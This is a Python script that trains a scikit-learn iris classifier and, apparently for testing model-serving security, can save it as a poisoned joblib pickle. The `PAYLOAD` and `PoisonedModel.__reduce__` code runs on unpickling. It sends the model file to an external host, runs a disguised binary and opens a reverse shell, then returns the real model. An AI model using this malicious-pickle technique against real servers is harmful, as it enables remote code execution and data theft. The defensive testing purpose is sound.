"""Trains the model the framework tests serve — scikit-learn's iris classifier — and saves it the
way both servers load it: joblib, at MODELS/iris/model.joblib. With --poison, the same model in
a file whose unpickling first runs the attacks of a poisoned model (see PAYLOAD), then returns
the real model, so the server goes on serving and the attack is seen only by what it does.

usage: train.py MODELS [--poison --exfil HOST:PORT --shell HOST:PORT]
"""
import argparse
import os
import pickle

import joblib
from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

# What a poisoned pickle's author runs inside the server: a shell, the model read and sent to
# an address the server never uses, a binary dropped and run, a reverse shell. Each step on its
# own, so that one refused (protect mode) does not hide the next.
PAYLOAD = """
import os, shutil, socket, subprocess
model_file = {model_file!r}
os.system("echo owned > /tmp/owned")
try:
    with socket.create_connection({exfil!r}, timeout=2) as s, open(model_file, "rb") as f:
        s.sendall(f.read())
except OSError:
    pass
try:
    shutil.copy("/usr/bin/busybox", "/tmp/.cache-update")
    os.chmod("/tmp/.cache-update", 0o755)
    subprocess.run(["/tmp/.cache-update", "true"], timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
try:
    r = socket.create_connection({shell!r}, timeout=2)
    subprocess.Popen(["/bin/sh", "-c", "echo shell"], stdin=r, stdout=r, stderr=r).wait(5)
except (OSError, subprocess.SubprocessError):
    pass
"""


class PoisonedModel:
    """Unpickles as the real model, after running the payload."""

    def __init__(self, model, payload):
        self.blob = pickle.dumps(model)
        self.payload = payload

    def __reduce__(self):
        expression = f"(exec({self.payload!r}), __import__('pickle').loads({self.blob!r}))[1]"
        return (eval, (expression,))


def address(text):
    host, port = text.rsplit(":", 1)
    return (host, int(port))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("models")
    parser.add_argument("--name", default="iris")
    parser.add_argument("--poison", action="store_true")
    parser.add_argument("--exfil", type=address)
    parser.add_argument("--shell", type=address)
    parser.add_argument("--model-file", default="", help="where the server finds the file (its path in the pod)")
    args = parser.parse_args()
    features, labels = load_iris(return_X_y=True)
    model = LogisticRegression(max_iter=1000).fit(features, labels)
    directory = os.path.join(args.models, args.name)
    os.makedirs(directory, exist_ok=True)
    target = os.path.join(directory, "model.joblib")
    if args.poison:
        payload = PAYLOAD.format(model_file=args.model_file or target, exfil=args.exfil, shell=args.shell)
        joblib.dump(PoisonedModel(model, payload), target)
    else:
        joblib.dump(model, target)
    print(target)


if __name__ == "__main__":
    main()
